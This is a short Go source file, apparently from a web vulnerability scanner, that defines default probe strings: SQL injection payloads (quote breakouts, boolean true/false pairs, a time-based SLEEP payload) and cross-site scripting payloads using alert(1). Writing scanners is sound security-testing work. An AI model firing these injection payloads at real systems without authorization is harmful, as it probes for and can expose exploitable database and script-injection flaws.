package probe

// DefaultErrorPayloads are appended to the neutral value of the targeted
// parameter to provoke database errors.
var DefaultErrorPayloads = []string{"'", `"`, "')", `")`, " or '1'='1", " or '1'='2", ")", "'--", `"--`}

const (
	BooleanTruePayload  = "1' AND '1'='1"
	BooleanFalsePayload = "1' AND '1'='2"
	TimePayload         = "1' OR SLEEP(3)--"
)

var DefaultXSSPayloads = []string{
	"<xss>",
	"<img src=x onerror=alert(1)>",
	"';alert(1);//",
	`" autofocus onfocus=alert(1) "`,
	`"><script>alert(1)</script>`,
}

func orDefault(custom, fallback []string) []string {
	if len(custom) == 0 {
		return fallback
	}
	return custom
}
